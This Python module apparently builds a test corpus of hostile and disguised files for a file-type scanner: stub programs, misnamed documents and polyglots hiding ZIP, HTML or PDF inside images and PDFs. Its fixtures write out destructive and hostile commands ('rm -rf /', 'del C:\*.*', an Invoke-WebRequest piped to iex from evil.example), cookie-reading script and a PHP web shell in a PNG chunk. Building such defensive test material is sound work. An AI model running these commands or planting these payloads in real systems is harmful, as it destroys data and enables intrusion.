"""Programs and scripts, files under another type's name, and files that are two things at once."""

import struct
import sys
from pathlib import Path

from archives import archive, parts_of
from pdfs import with_stream
from pictures import png

OURS = "written by ourselves"

WINDOWS = b"MZ" + bytes(58) + struct.pack("<I", 0x80) + bytes(64) + b"PE\0\0\x64\x86" + bytes(512)
MAC = struct.pack("<IIIIIIII", 0xFEEDFACF, 0x01000007, 3, 2, 0, 0, 0, 0) + bytes(512)
JAVA = struct.pack(">IHH", 0xCAFEBABE, 0, 61) + bytes(512)
SHORTCUT = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + bytes(200)
PAGE = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>\n"
DRAWING = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>\n'

SCRIPTS = {
    "run.sh": b"#!/bin/sh\nrm -rf /\n",
    "run.py": b"#!/usr/bin/env python3\nprint(1)\n",
    "run.js": b"WScript.Shell\n",
    "run.vbs": b'CreateObject("WScript.Shell").Run "calc"\n',
    "run.bat": b"@echo off\r\ndel C:\\*.*\r\n",
    "run.ps1": b"Invoke-WebRequest https://evil.example | iex\n",
    "run.hta": b"<hta:application id=x>" + PAGE,
    "page.html": PAGE,
    "page.mht": b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + PAGE,
    "plan.svg": DRAWING,
    "site.url": b"[InternetShortcut]\r\nURL=https://evil.example\r\n",
    "keys.reg": b"Windows Registry Editor Version 5.00\r\n",
    "page.txt": PAGE,
    "plan.txt": DRAWING,
    "run.txt": b"#!/bin/sh\nrm -rf /\n",
    "marked-run.csv": b"\xef\xbb\xbf#!/bin/sh\nrm -rf /\n",
    "page-utf-16.txt": PAGE.decode().encode("utf-16"),
}


def make(corpus):
    """Adds them all."""
    programs(corpus)
    misnamed(corpus)
    polyglots(corpus)


def programs(corpus):
    """Programs under their own names and under others."""
    linux = Path(sys.executable).resolve().read_bytes()[:100_000]
    for name, content in {
        "program.exe": WINDOWS,
        "program": linux,
        "program.so": linux,
        "program.dylib": MAC,
        "Program.class": JAVA,
        "program.lnk": SHORTCUT,
        "program.pdf": WINDOWS,
        "program.docx": WINDOWS,
        "program.jpg": linux,
        "program.txt": MAC,
        "program.doc": JAVA,
        "invoice.pdf.exe": WINDOWS,
        **SCRIPTS,
    }.items():
        corpus.hostile(name, "PROGRAM", OURS, content)
    jar = archive({"META-INF/MANIFEST.MF": b"Main-Class: Program\n", "Program.class": JAVA})
    corpus.hostile("program.jar", "COMPRESSED", "Python's zipfile", jar)
    corpus.hostile("jar.docx", "COMPRESSED", "Python's zipfile", jar)


def misnamed(corpus):
    """Ordinary files under another type's name."""
    for name, source in {
        "is-pdf.docx": "report.pdf",
        "is-pdf.txt": "report.pdf",
        "is-pdf.jpg": "report.pdf",
        "is-word.pdf": "letter.docx",
        "is-word.doc": "letter.docx",
        "is-word.xlsx": "letter.docx",
        "is-old-word.docx": "letter-libreoffice.doc",
        "is-old-excel.doc": "repairs-libreoffice.xls",
        "is-message.doc": "plain.msg",
        "is-png.jpg": "damp.png",
        "is-jpeg.png": "damp.jpg",
        "is-jpeg.pdf": "damp.jpg",
        "is-sound.mp4": "call.wav",
        "is-film.mp3": "leak.mp4",
        "is-text.pdf": "note.txt",
        "is-text.docx": "note.txt",
        "is-table.xlsx": "jobs.csv",
        "is-picture.eml": "damp.gif",
        "is-bitmap.csv": "damp.bmp",
        "is-word.zip": "letter.docx",
    }.items():
        corpus.hostile(name, "NOT_ITS_TYPE", "another file, renamed", corpus.read(source))
    for name, content in {"is-page.doc": PAGE, "is-page.xls": PAGE, "is-drawing.png": DRAWING}.items():
        corpus.hostile(name, "NOT_ITS_TYPE", OURS, content)
    corpus.hostile("flat.txt", "OPEN_DOCUMENT", "LibreOffice, renamed", (corpus.folder / "hostile/letter.fodt").read_bytes())
    for name in ("letter.odt", "repairs.ods"):
        content = (corpus.folder / "hostile" / name).read_bytes()
        corpus.hostile(f"{name[-3:]}.docx", "OPEN_DOCUMENT", "LibreOffice, renamed", content)
        parts = parts_of(content)
        del parts["mimetype"]
        corpus.hostile(f"{name[-3:]}-unmarked.xlsx", "OPEN_DOCUMENT", "LibreOffice, spoilt", archive(parts))


def polyglots(corpus):
    """Files that are one thing to one program and another to the next."""
    read = corpus.read
    files = archive({"run.exe": WINDOWS})
    two = "two files as one"
    hostile = lambda name, content: corpus.hostile(name, "NOT_ITS_TYPE", two, content)
    for name in ("report.pdf", "damp.jpg", "damp.png", "damp.gif", "damp.webp", "call.wav", "leak.mp4", "leak.mkv",
                 "call.mp3", "scan.tif", "damp.bmp", "call.ogg", "repairs-xlwt.xls", "leak.avi"):
        hostile(f"and-zip-{name}", read(name) + files)
        hostile(f"and-page-{name}", read(name) + PAGE) if name not in UNENDED else None
    hostile("page-in-header.pdf", with_stream(b"", "", header=b"%" + PAGE))
    hostile("junk-before.pdf", b"junk\n" * 200 + read("report.pdf"))
    hostile("space-before.pdf", b"\n\n" + read("report.pdf"))
    hostile("junk-behind.pdf", read("report.pdf") + b"junk\n" * 100)
    hostile("program-behind.pdf", read("report.pdf") + WINDOWS)
    hostile("pdf-behind.jpg", read("damp.jpg") + read("report.pdf"))
    comment = lambda inside: b"\xff\xfe" + struct.pack(">H", len(inside) + 2) + inside
    jpeg = read("damp.jpg")
    hostile("pdf-in-comment.jpg", jpeg[:2] + comment(read("report.pdf")) + jpeg[2:])
    hostile("page-in-comment.jpg", jpeg[:2] + comment(PAGE) + jpeg[2:])
    gif = read("damp.gif")
    blocks = b"".join(bytes([len(files[at : at + 255])]) + files[at : at + 255] for at in range(0, len(files), 255))
    hostile("zip-in-comment.gif", gif[:-1] + b"!\xfe" + blocks + b"\0;")
    hostile("zip-in-comment.jpg", jpeg[:-2] + comment(files) + jpeg[-2:])
    picture = png(8, 8)
    text = lambda data: struct.pack(">I", len(data) + 5) + b"tEXtnote\0" + data + bytes(4)
    hostile("script-in-text.png", picture[:33] + text(b"<?php system($_GET[0]);") + picture[33:])
    hostile("zip-in-text.png", picture[:-12] + text(files) + picture[-12:])
    parts = parts_of(read("letter.docx"))
    hostile("pdf-first.docx", archive({"a.pdf": read("report.pdf")} | parts, method=0))
    pdf = read("report.pdf")
    end = pdf.rindex(b"startxref")
    hostile("zip-before-end.pdf", pdf[:end] + b"% " + files + b"\n" + pdf[end:])
    corpus.hostile("script.gif", "UNREADABLE", OURS, b"GIF89a=1;alert(document.cookie)//" + bytes(40))


# Formats without an end of their own: what follows is skipped by whatever plays or shows them.
UNENDED = ("call.mp3", "scan.tif")
